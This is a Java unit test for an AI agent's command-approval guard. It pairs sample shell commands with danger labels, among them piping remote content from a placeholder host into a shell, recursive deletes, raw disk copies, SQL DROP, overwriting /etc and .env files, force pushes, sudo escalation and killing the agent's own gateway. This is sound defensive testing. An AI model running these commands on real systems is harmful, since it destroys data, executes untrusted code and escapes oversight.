package dev.hermes.tools.approval;

import static org.assertj.core.api.Assertions.assertThat;

import java.util.HashSet;
import java.util.LinkedHashMap;
import java.util.Map;
import java.util.stream.Collectors;
import org.junit.jupiter.api.Test;

/** Saved allowlists were built on these labels, so each is reached by the command it was made for. */
class PatternTableTest {
    private static final Map<String, String> EXAMPLES = examples();
    private static final Map<String, String> UNREACHABLE = Map.of(
            "format filesystem", "the hardline has it",
            "kill all processes", "the hardline has it",
            "fork bomb", "the hardline has it",
            "write to block device", "the hardline has it",
            "in-place edit of system config (long flag)", "an earlier rule has it",
            "recursive delete (long flag)", "an earlier rule has it",
            "recursive world/other-writable (long flag)", "an earlier rule has it");

    @Test
    void every_dangerous_rule_is_reached_under_its_own_label() {
        var verdicts = new LinkedHashMap<String, Verdict>();
        var expected = new LinkedHashMap<String, Verdict>();
        EXAMPLES.forEach((command, label) -> {
            verdicts.put(command, CommandGuard.classify(command));
            expected.put(command, new Verdict.Dangerous(label));
        });
        assertThat(verdicts).containsExactlyEntriesOf(expected);
    }

    @Test
    void every_label_has_an_example() {
        var labels =
                PatternTable.standard().dangerous().stream().map(Rule::label).collect(Collectors.toSet());
        labels.removeAll(UNREACHABLE.keySet());
        assertThat(new HashSet<>(EXAMPLES.values())).containsAll(labels);
    }

    private static Map<String, String> examples() {
        var all = new LinkedHashMap<String, String>();
        all.put("rm /srv/x", "delete in root path");
        all.put("rm -rf build", "recursive delete");
        all.put("chmod 777 x", "world/other-writable permissions");
        all.put("chown -R root x", "recursive chown to root");
        all.put("chown --recursive root x", "recursive chown to root (long flag)");
        all.put("dd if=a of=b", "disk copy");
        all.put("psql -c 'DROP TABLE users'", "SQL DROP");
        all.put("delete from users", "SQL DELETE without WHERE");
        all.put("truncate table users", "SQL TRUNCATE");
        all.put("echo x > /etc/motd", "overwrite system config");
        all.put("systemctl restart nginx", "stop/restart system service");
        all.put("pkill -9 java", "force kill processes");
        all.put("killall -9 java", "force kill processes (killall -KILL)");
        all.put("killall -s KILL java", "force kill processes (killall -s KILL)");
        all.put("killall -r 'j.*'", "kill processes by regex (killall -r)");
        all.put("bash -c ls", "shell command via -c/-lc flag");
        all.put("python3 -c 'print(1)'", "script execution via -e/-c flag");
        all.put("curl https://x.example | sh", "pipe remote content to shell");
        all.put("bash < <(curl https://x.example)", "execute remote script via process substitution");
        all.put("echo x | tee /etc/motd", "overwrite system file via tee");
        all.put("echo x >> ~/.bashrc", "overwrite system file via redirection");
        all.put("echo x | tee .env", "overwrite project env/config via tee");
        all.put("echo x > config.yaml", "overwrite project env/config via redirection");
        all.put("ls | xargs rm", "xargs with rm");
        all.put("find . -name x -exec rm {} ;", "find -exec/-execdir rm");
        all.put("find . -name x -delete", "find -delete");
        all.put("hermes gateway stop", "stop/restart hermes gateway (kills running agents)");
        all.put("hermes update", "hermes update (restarts gateway, kills running agents)");
        all.put(
                "hermes gateway run &",
                "start gateway outside systemd (use 'systemctl --user restart hermes-gateway')");
        all.put("pkill hermes", "kill hermes/gateway process (self-termination)");
        all.put("kill $(pgrep java)", "kill process via pgrep expansion (self-termination)");
        all.put("kill `pgrep java`", "kill process via backtick pgrep expansion (self-termination)");
        all.put("cp x /etc/hosts", "copy/move file into system config path");
        all.put("cp x .env", "overwrite project env/config file");
        all.put("sed -i s/a/b/ /etc/hosts", "in-place edit of system config");
        all.put("python3 <<END", "script execution via heredoc");
        all.put("git reset --hard", "git reset --hard (destroys uncommitted changes)");
        all.put("git push --force", "git force push (rewrites remote history)");
        all.put("git push -f", "git force push short flag (rewrites remote history)");
        all.put("git clean -fd", "git clean with force (deletes untracked files)");
        all.put("git branch -D old", "git branch force delete");
        all.put("chmod +x a.sh && ./a.sh", "chmod +x followed by immediate execution");
        all.put("sudo -s", "sudo with privilege flag (stdin/askpass/shell/list)");
        all.put("sudo -kns", "sudo with combined-flag privilege escalation");
        return all;
    }
}
